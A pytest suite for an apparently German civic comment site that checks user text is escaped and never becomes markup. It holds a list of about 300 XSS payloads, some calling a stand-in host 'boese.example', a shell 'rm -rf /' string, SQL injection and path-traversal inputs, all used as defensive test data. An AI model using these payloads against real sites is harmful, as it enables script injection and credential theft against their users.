"""Citizens' text is text: it survives as typed, and nothing in it ever becomes markup."""

import base64
import re
import time
import unicodedata
from html import escape
from itertools import product
from pathlib import Path
from urllib.parse import quote

import html5lib
import nh3
import pytest

from dialogue.comments import MAX_LENGTH, checked
from dialogue.kit import text
from dialogue.kit.errors import Invalid
from dialogue.kit.files import ROOT, TEMPLATES
from moderation import guard
from moderation.triage import signs
from tests.conftest import ORIGIN

REL = "nofollow ugc noopener"


def said(element):
    """What a reader reads: <br> is a line break, a paragraph a blank line."""
    for line in element.iter("br"):
        line.tail = "\n" + (line.tail or "")
    return "\n\n".join("".join(block.itertext()) for block in element.iter("p"))


def parsed(html):
    return html5lib.parseFragment(html, container="div", treebuilder="etree", namespaceHTMLElements=False)


def shape(element):
    """Tags, attributes and texts of everything below, in order."""
    return [(each.tag, dict(each.attrib), each.text, each.tail) for each in element.iter()][1:]


def is_plain(element):
    """Only paragraphs, line breaks and links outward."""
    below = list(element.iter())[1:]
    assert {each.tag for each in below} - {"p", "br", "a"} == set()
    for each in below:
        if each.tag == "a":
            assert set(each.attrib) == {"href", "rel"}
            assert each.attrib["rel"] == REL
            assert re.match(r"https?://[^\s]", each.attrib["href"], re.IGNORECASE)
        else:
            assert each.attrib == {}


# --- odd texts --------------------------------------------------------------------------------------

ODD = {
    "less": "a < b und 1<2",
    "greater": "a > b -> c",
    "tag": "<b>fett</b> und <br> und </p>",
    "ampersand": "Müller & Söhne",
    "entity": "&amp; &lt; &nbsp; &#60; &#x3c; &copy &notin;",
    "half an entity": "a&b=c&copy=d&;",
    "double quotes": 'Er sagte "ja"',
    "single quotes": "it's 'so'",
    "german quotes": "„Ja“, sagte sie, ‚wirklich‘",
    "guillemets": "»Nein« und «non»",
    "backslashes": "C:\\temp\\neu \\n \\u0041 \\\\",
    "backticks": "`code` ```block```",
    "template": "{{7*7}} {% raw %} {# nichts #} ${7*7} #{7*7} <%= 7*7 %>",
    "percent": "100 %s %d %(name)s %% %n",
    "format": "{} {0} {self.__class__} {text!r}",
    "sql": "'; DROP TABLE comments; -- \" OR 1=1",
    "shell": "$(rm -rf /) `id` | & ; > /dev/null",
    "formula": '=1+1 @SUM(A1) +1 -1 =HYPERLINK("x")',
    "csv": "a;b,c\td|e",
    "json": '{"a": [1, null, true]}',
    "null word": "null None undefined NaN true",
    "number": "00123 1e5 0x1F 1.000,50 €",
    "tab": "links\trechts",
    "lines": "erste\nzweite\ndritte",
    "paragraphs": "eins\n\nzwei\n\ndrei",
    "blanks inside": "a  b   c",
    "indented": "Liste:\n  - eins\n    - zwei",
    "no-break space": "10\u00a0km, 1\u202f000",
    "soft hyphen": "Donau\u00addampf\u00adschiff",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "umlauts": "ÄÖÜäöüß ẞ",
    "decomposed": "A\u0308pfel, Cafe\u0301",
    "combining": "z\u0335a\u0334l\u0336g\u0338o\u0301\u0302\u0303",
    "emoji": "😀 🎉 ❤️ ☎︎",
    "family": "👩‍👩‍👧‍👦 👨🏽‍💻 🏳️‍🌈",
    "flags": "🇩🇪 🇪🇺 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "keycaps": "1️⃣ #️⃣",
    "arabic": "مرحبا بالعالم",
    "hebrew mixed": "abc שלום def 123",
    "override": "abc\u202edef\u202c ghi",
    "isolates": "a\u2067b\u2069c",
    "chinese": "人工智能的标记义务",
    "japanese": "ｶﾅ カナ かな 漢字",
    "korean": "한국어 한",
    "devanagari": "नमस्ते क्षत्रिय",
    "thai": "สวัสดีชาวโลก",
    "cyrillic": "Привет, а это кириллица",
    "greek": "Ὀδυσσεύς ΣΊΣΥΦΟΣ",
    "astral letters": "𝕳𝖆𝖑𝖑𝖔 𐍈 𒀀",
    "full width": "ＡＢＣ＜＞＆",
    "ligatures": "ﬀ ﬁ ﬆ ĳ",
    "new characters": "\U0001fae8 \U0001f6dc \U0001fac6",
    "private use": "\ue000 \U000f0000",
    "mathematics": "∑ₙ₌₁^∞ 1/n² ≠ ∞ ∀x∈ℝ",
    "box drawing": "┌─┐\n│x│\n└─┘",
    "long word": "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz" * 20,
    "one letter": "x",
    "only emoji": "👍",
    "only marks": "?!",
    "address": "Siehe https://halle.example/a?b=c&d=e#f.",
    "address in quotes": 'Lies "https://halle.example/a" bitte',
    "address in german quotes": "Lies „https://halle.example/a“ bitte",
    "address in angles": "<https://halle.example/a>",
    "address in brackets": "(www.halle.example)",
    "address with umlauts": "https://müller.example/größe?q=ä",
    "addresses": "http://a.example,http://b.example http://c.example",
    "e-mail": "Wer schreibt an rathaus@halle.example?",
    "markdown": "# Titel\n* Punkt\n[x](y) ![b](c) **fett** _kursiv_",
    "html file": "<!doctype html><html><head><title>x</title></head></html>",
    "xml": '<?xml version="1.0"?><a xmlns="x"><![CDATA[b]]></a>',
    "paths": "../../etc/passwd file:///etc/passwd",
    "header": "x\nSet-Cookie: a=b\nBcc: x@y.example",
}


@pytest.mark.parametrize("odd", ODD)
def test_odd_text_survives_rendering(odd):
    typed = ODD[odd]
    html = text.paragraphs(text.normalise(typed))

    is_plain(parsed(html))
    assert said(parsed(html)) == unicodedata.normalize("NFC", typed)


@pytest.mark.parametrize("odd", ODD)
async def test_odd_text_survives_from_the_form_to_every_page(browser, new_browser, make, odd):
    typed = unicodedata.normalize("NFC", ODD[odd])
    await browser.sign_in(await make.citizen())
    point, moderator = await make.point(), new_browser()
    await moderator.sign_in(await make.moderator())

    sent = {"text": ODD[odd], "warned": guard.digest(ODD[odd])}  # an odd one looks like an address
    receipt = await browser.post(f"/faden/{point.thread.id}/schreiben", **sent)
    number = receipt.words(".receipt__number")
    page = await browser.get(f"/beitraege/{number}")
    account = await browser.get("/konto")
    edit = await browser.get(f"/beitraege/{number}/bearbeiten")
    case = await moderator.get(f"/moderation/{number}")

    assert [shown(each) for each in (page, account)] == [typed, typed]
    assert edit.one("textarea[name=text]").text.removeprefix("\r\n") == typed
    assert case.one(".comment__text").text == typed


def shown(page):
    """The one comment on a page, as a browser understands it."""
    tree = html5lib.parse(page.text, treebuilder="etree", namespaceHTMLElements=False)
    (comment,) = [each for each in tree.iter("div") if each.get("class") == "comment__text"]
    is_plain(comment)
    return said(comment)


@pytest.mark.parametrize("odd", ODD)
async def test_odd_text_survives_being_refused(browser, make, odd):
    page = await browser.post(f"/faden/{(await make.thread()).id}/schreiben", text=ODD[odd])

    inputs = html5lib.parse(page.text, treebuilder="etree", namespaceHTMLElements=False).iter("input")
    assert [each.get("value") for each in inputs if each.get("name") == "keep.text"] == [ODD[odd]]


BETWEEN = "一"  # combines with nothing
LINES = {0x0A: "\n", 0x0D: "\n", 0x2028: "\n", 0x2029: "\n", 0x09: "\t"}


def kept(code):
    gone = (
        unicodedata.category(chr(code)) in {"Cc", "Cs"} or code & 0xFFFE == 0xFFFE or 0xFDD0 <= code <= 0xFDEF
    )
    return LINES.get(code, "" if gone else chr(code)) + BETWEEN


@pytest.mark.parametrize("plane", range(17))
def test_exactly_controls_surrogates_and_noncharacters_are_removed(plane):
    codes = range(plane << 16, (plane + 1) << 16)
    typed = BETWEEN + "".join(chr(code) + BETWEEN for code in codes)
    wanted = BETWEEN + "".join(kept(code) for code in codes)

    assert text.normalise(typed) == unicodedata.normalize("NFC", wanted)


# --- length -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "length"),
    [
        ("", 0),
        ("abc", 3),
        ("ä", 1),
        ("ä", 1),
        ("👩\u200d👩\u200d👧\u200d👦", 1),
        ("🇩🇪🇪🇺", 2),
        ("👍🏽", 1),
        ("1️⃣", 1),
        ("한국", 2),
        ("क्षि", 1),
        ("z" + "̵" * 50, 1),
        ("a\nb", 3),
        ("é" * 10, 10),
        ("é" * 10, 10),
    ],
)
def test_length_is_what_a_person_would_count(typed, length):
    assert text.length(typed) == length


@pytest.mark.parametrize("letter", ["x", "ä", "👍", "👩‍👩‍👧‍👦"])
def test_a_text_may_have_five_thousand_characters_and_no_more(letter):
    assert checked(letter * MAX_LENGTH) == letter * MAX_LENGTH
    with pytest.raises(Invalid, match="5 001 von höchstens 5 000 Zeichen"):
        checked(letter * (MAX_LENGTH + 1))


# 40,000 letters that count as one character: a request may carry them.
@pytest.mark.parametrize(
    "typed", ["ᄀ" * 40_000, "a" * 5_000, "a." * 2_500, "a@" * 2_500, "a@b." * 1_250, "www." * 1_250]
)
@pytest.mark.parametrize("more", ["", " ", "@", "\n" + "0 " * 50])
def test_no_text_keeps_the_machine_busy(typed, more):
    started = time.process_time()

    signs.judge(typed + more)
    text.paragraphs(typed + more)

    assert time.process_time() - started < 1


# What anybody may send before anything else was looked at.
@pytest.mark.parametrize(
    "typed", ["&" * 250_000, '"' * 250_000, "a" + "\u0315\u0300" * 60_000, "a@" * 120_000]
)
@pytest.mark.parametrize("address", ["/faden/1/schreiben", "/konto/passwort-vergessen", "/beitrag"])
async def test_no_request_of_a_guest_keeps_the_machine_busy(browser, typed, address):
    started = time.process_time()

    page = await browser.post(address, text=typed, email=typed, number=typed, secret=typed)

    assert page.status in {401, 413, 422}
    assert time.process_time() - started < 2


INVISIBLE = ["\u200b", "\u00ad\u200d", "\u202e", "\u2800", "\u3164\u3164", " \u0301 "]


@pytest.mark.parametrize("typed", INVISIBLE)
def test_a_text_in_which_nothing_can_be_seen_is_no_text(typed):
    with pytest.raises(Invalid, match="Bitte schreiben Sie etwas"):
        checked(typed)


@pytest.mark.parametrize("typed", ["?", "👍", "ا", "1", "。", "\u200bja", "🫩", "❤️"])
def test_one_sign_that_can_be_seen_is_a_text(typed):
    assert checked(typed) == typed


def test_a_direction_sign_ends_an_address():
    assert 'href="https://' not in text.paragraphs("https://\u202ede.live/")


async def test_a_case_with_hundreds_of_signs_opens(browser, make):
    await browser.sign_in(await make.moderator())
    typed = " ".join(f"a{n}@b.de" for n in range(450))
    found = [sign.stored() for sign in signs.judge(typed)]
    comment = await make.comment(status="pending", text=typed, signs=found)

    page = await browser.get(f"/moderation/{comment.number}")

    assert (page.status, page.one(".comment__text").text) == (200, typed)


# --- markup -----------------------------------------------------------------------------------------

CALL = "alert(1)"
NESTED = [
    f"<{tag}>" for tag in ("math", "svg", "table", "select", "template", "noscript", "style", "title", "xmp")
]
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerover",
    "onwheel",
    "onscroll",
    "onanimationend",
    "ontransitionend",
    "onhashchange",
]
JAVASCRIPT = [
    "javascript",
    "JaVaScRiPt",
    "java\tscript",
    "java\nscript",
    "\x01javascript",
    "&#106;avascript",
    "&#x6a;avascript",
]
JAVASCRIPT += [
    "&#0000106avascript",
    "javascript&colon;",
    "%6aavascript",
    "vbscript",
    "livescript",
    "\u2028javascript",
    " javascript",
]
CARRIERS = [
    "<a href='{}:{}'>x</a>",
    "[x]({}:{})",
    "<iframe src={}:{}>",
    "<form action='{}:{}'><button>x</button></form>",
]
DATA = base64.b64encode(b"<script>alert(1)</script>").decode()
PAYLOADS = {
    "script": [
        f"<script>{CALL}</script>",
        f"<SCRIPT>{CALL}</SCRIPT>",
        f"<script\n>{CALL}</script\n>",
        f"<script/x>{CALL}</script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<<script>{CALL}//<</script>",
        "<script src=//boese.example/x.js></script>",
        "<script src='data:text/javascript,alert(1)'></script>",
        f"<script type=module>{CALL}</script>",
        f"</script><script>{CALL}</script>",
        f"<script>{CALL}",
        f"<script >{CALL}</script >",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        f"<svg><script>{CALL}</script></svg>",
    ],
    "handler": [
        f"<{tag} {handler}={mark}{CALL}{mark}>"
        for tag, handler, mark in product(
            ("img src=x", "body", "details open", "video><source"), HANDLERS, ("", '"')
        )
    ],
    "vector": [
        f"<svg onload={CALL}>",
        f"<svg/onload={CALL}>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
        "<math href=javascript:alert(1)>x</math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ],
    "javascript link": [carrier.format(word, CALL) for carrier, word in product(CARRIERS, JAVASCRIPT)],
    "data link": [
        f"<a href='data:text/html;base64,{DATA}'>x</a>",
        f"<object data='data:text/html;base64,{DATA}'></object>",
        f"<embed src='data:text/html;base64,{DATA}'>",
        f"<iframe src='data:text/html,<script>{CALL}</script>'></iframe>",
        f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
        f"<meta http-equiv=refresh content='0;url=data:text/html;base64,{DATA}'>",
        f"data:text/html;base64,{DATA}",
        f"<link rel=stylesheet href='data:text/css;base64,{DATA}'>",
    ],
    "markdown": [
        "[x](JAVASCRIPT:alert(1) 'x')",
        "![x](x onerror=alert(1))",
        '![x](x"onerror="alert(1))',
        "[x]: javascript:alert(1)\n[x]",
        "<javascript:alert(1)>",
        f"```\n</code><script>{CALL}</script>\n```",
        f"> <img src=x onerror={CALL}>",
    ],
    "css": [
        "<style>@import '//boese.example/x.css';</style>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<p style=position:fixed;inset:0>x</p>",
        "<link rel=stylesheet href=//boese.example/x.css>",
        "<xss style='animation-name:x' onanimationstart=alert(1)>",
        "<style></style><img src=x onerror=alert(1)>",
        "<div style=\"background:url('//boese.example')\">",
    ],
    "comment": [
        f"<!--><script>{CALL}</script>-->",
        f"<!--{CALL}--><img src=x onerror={CALL}>",
        f"<!-- --!><script>{CALL}</script>",
        f"<![CDATA[<script>{CALL}</script>]]>",
        f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
        f"<?xml version='1.0'?><script>{CALL}</script>",
        f"<!doctype html><script>{CALL}</script>",
        f"<%<script>{CALL}</script>%>",
        f"--><script>{CALL}</script>",
        f"<!-><img src=x onerror={CALL}>",
    ],
    "unicode": [
        f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
        f"<ſcript>{CALL}</ſcript>",
        f"<scrıpt>{CALL}</scrıpt>",
        f"<\u200bscript>{CALL}</script>",
        f"<s\u0000cript>{CALL}</s\u0000cript>",
        f"<img\u00a0src=x onerror={CALL}>",
        f"<img\u2028src=x\u2028onerror={CALL}>",
        f"<img\x0csrc=x\x0conerror={CALL}>",
        f"\ufeff<script>{CALL}</script>",
        f"\u202e>tpircs<{CALL}<script>",
        f"‹script›{CALL}‹/script›",
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        r"\u003cscript\u003ealert(1)\u003c/script\u003e",
        r"\x3cscript\x3ealert(1)\x3c/script\x3e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        "&LT;script&GT;alert(1)",
    ],
    "mutation": [
        *(f"{tag}<img title='</{tag[1:-1]}><img src=x onerror={CALL}>'>" for tag in NESTED),
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CALL}&gt;'>",
        f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<p id='&quot;><img src=x onerror={CALL}>'>",
        f"<textarea><img title='</textarea><img src=x onerror={CALL}>'>",
        f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    ],
    "breaking out": [
        f"'\"><img src=x onerror={CALL}>",
        f"</div></article></main><script>{CALL}</script>",
        f"</textarea><script>{CALL}</script>",
        f"</title><script>{CALL}</script>",
        f"</style></script><img src=x onerror={CALL}>",
        f"</p><p onclick={CALL}>x",
        f"</bdi></h3><script>{CALL}</script>",
        '" onmouseover="alert(1)',
        "' autofocus onfocus='alert(1)",
        "` onmouseover=`alert(1)",
    ],
    "link": [
        'https://x.example/"onmouseover="alert(1)',
        "https://x.example/'onclick='alert(1)",
        f"https://x.example/<script>{CALL}</script>",
        f"https://x.example/><img src=x onerror={CALL}>",
        "https://x.example/&quot;onclick=alert(1)",
        "https://x.example/`onclick=alert(1)",
        "https://x.example\\@boese.example",
        "https://javascript:alert(1)@x.example/",
        "http://javascript:alert(1)",
        "javascript:alert(1)//https://x.example",
        "javascript://https://x.example/%0aalert(1)",
        "feed:javascript:alert(1)",
        'www.x.example/"style="x',
        "www.javascript:alert(1)",
        "https://x.example/</a><script>alert(1)</script>",
        'https://[::1]:x/"onclick=alert(1)',
        "HTTPS://X.EXAMPLE/%22onclick=%22",
    ],
    "taking over": [
        "<base href=//boese.example/>",
        "<meta http-equiv=refresh content='0;url=//boese.example'>",
        "<form action=//boese.example><input name=password></form>",
        "<input form=x formaction=//boese.example type=submit>",
        "<iframe src=//boese.example></iframe>",
        "<object data=//boese.example></object>",
        "<img src=//boese.example/x.gif>",
        "<a id=inhalt name=inhalt>x</a>",
        "<div hx-get=/konto/abmelden hx-trigger=load>",
        "<p hx-on:click=alert(1)>x</p>",
        "<dialog open>x</dialog>",
        "<marquee onstart=alert(1)>",
        "<portal src=//boese.example>",
        "<audio src onloadstart=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ],
}
ALL = [(kind, typed) for kind, payloads in PAYLOADS.items() for typed in payloads]


def test_there_are_enough_payloads_and_none_stands_twice():
    assert len({typed for _, typed in ALL}) == len(ALL) >= 299


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_payload_becomes_markup(kind):
    for payload in PAYLOADS[kind]:
        typed = text.normalise(payload)
        html = text.paragraphs(typed)

        is_plain(parsed(html))
        assert said(parsed(html)) == typed
        assert shape(parsed(second_opinion(html))) == shape(parsed(html))


def second_opinion(html):
    schemes, attributes = {"http", "https"}, {"a": {"href", "rel"}}
    return nh3.clean(html, tags={"p", "br", "a"}, attributes=attributes, url_schemes=schemes, link_rel=None)


@pytest.mark.parametrize("kind", PAYLOADS)
async def test_no_payload_changes_the_page_around_it(browser, make, kind):
    point = await make.point()
    plain = around(await browser.get(f"/beitraege/{(await make.comment(point.thread, text='x')).number}"))

    for payload in PAYLOADS[kind]:
        typed = text.normalise(payload)
        comment = await make.comment(point.thread, text=typed)
        page = await browser.get(f"/beitraege/{comment.number}")

        assert shown(page) == typed
        assert around(page) == plain


def around(page):
    """Tags and attribute names of a page, in order, without the inside of what citizens wrote."""
    tree = html5lib.parse(page.text, treebuilder="etree", namespaceHTMLElements=False)
    for citizens in [
        each for each in tree.iter("div") if each.get("class", "").startswith(("comment__text", "flow"))
    ]:
        citizens.clear()
    return [(each.tag, sorted(each.attrib)) for each in tree.iter()]


async def get(browser, path, **query):
    return await browser.client.get(path, params=query)


async def post(browser, path, **form):
    return await browser.client.post(path, data=form, headers={"origin": ORIGIN})


ECHOES = {
    "receipt number": lambda browser, typed: get(browser, "/beitrag", nummer=typed),
    "where to go on": lambda browser, typed: get(browser, "/konto/anmelden", next="/" + typed),
    "key of a link": lambda browser, typed: get(browser, "/konto/passwort", schluessel=typed),
    "unknown page": lambda browser, typed: browser.client.get(f"/{quote(typed, safe='')}"),
    "page with a query": lambda browser, typed: get(browser, "/konto", **{typed: typed}),
    "kept value": lambda browser, typed: post(browser, "/faden/1/schreiben", text="x", einfall=typed),
    "kept name": lambda browser, typed: post(browser, "/faden/1/schreiben", **{"text": "x", typed: "x"}),
    "kept text": lambda browser, typed: post(browser, "/faden/1/schreiben", text=typed),
    "text behind signing in": lambda browser, typed: post(
        browser,
        "/konto/anmelden",
        **{"email": typed, "keep.text": typed, "keep." + typed: "x", "retry": "/" + typed},
    ),
    "receipt": lambda browser, typed: post(browser, "/beitrag", number=typed, secret=typed),
    "new account": lambda browser, typed: post(browser, "/konto/anlegen", email=typed, password=typed),
    "forgotten": lambda browser, typed: post(browser, "/konto/passwort-vergessen", email=typed),
}


@pytest.mark.parametrize("echo", ECHOES)
async def test_nothing_that_is_echoed_becomes_markup(browser, make, echo):
    await make.terms()
    plain = await ECHOES[echo](browser, "harmlos")

    for typed in [payloads[0][:80] for payloads in PAYLOADS.values()] + [
        '"><img src=x onerror=alert(1)>',
        "{{7*7}}",
    ]:
        page = await ECHOES[echo](browser, typed)

        assert (page.status_code, around(page)) == (plain.status_code, around(plain))


@pytest.mark.parametrize("kind", PAYLOADS)
async def test_no_payload_becomes_markup_for_moderators(browser, make, kind):
    await browser.sign_in(await make.moderator())
    bad = "Depp! "
    plain = await make.comment(text=bad, signs=marks(bad))
    wanted = around(await browser.get(f"/moderation/{plain.number}"))

    for payload in PAYLOADS[kind]:
        typed = text.normalise(bad + payload)
        comment = await make.comment(text=typed, signs=marks(bad))
        page = await browser.get(f"/moderation/{comment.number}")

        assert [page.one(".comment__text").text, page.one("mark").text] == [typed, "Depp"]
        assert around(page) == wanted


def marks(typed):
    return [sign.stored() for sign in signs.judge(typed)]


# --- the sources ------------------------------------------------------------------------------------

HTML = sorted(TEMPLATES.rglob("*.html"))
OURS = sorted(
    file for floor in ("dialogue", "moderation", "consultations") for file in (ROOT / floor).rglob("*.py")
)
MARKUP = re.compile(r"\bMarkup\b|\|\s*safe\b|autoescape\s+false|\.unescape\(|render_template_string")


def found(files, pattern):
    return {str(file.relative_to(ROOT)) for file in files if pattern.search(file.read_text(encoding="utf-8"))}


def test_markup_is_made_in_two_places():
    assert found(OURS, MARKUP) == {"dialogue/kit/rendering.py", "dialogue/kit/text.py"}
    assert found(HTML, MARKUP) == set()


@pytest.mark.parametrize("file", HTML, ids=lambda file: str(Path(file).relative_to(TEMPLATES)))
def test_a_template_has_no_code_or_style_inside(file):
    source = re.sub(r"{#.*?#}", "", file.read_text(encoding="utf-8"), flags=re.DOTALL)
    inside = re.compile(
        r"\sstyle\s*=|\son[a-z]+\s*=|<style|<script(?![^>]*\ssrc=)|hx-on|javascript:|srcdoc", re.IGNORECASE
    )

    assert inside.findall(source) == []


def test_our_scripts_make_no_markup_of_texts():
    scripts = sorted((ROOT / "static" / "js").rglob("*.js"))
    unsafe = re.compile(
        r"innerHTML|outerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function|setTimeout\(\s*['\"]"
    )

    assert found(scripts, unsafe) == set()


@pytest.mark.parametrize("name", ["dialogue/comment.html", "errors/error.html", None])
def test_templates_escape_by_themselves(running, name):
    environment = running.house.templates

    assert environment.autoescape(name)
    assert environment.from_string("{{ x }}").render(x="<b>") == escape("<b>")
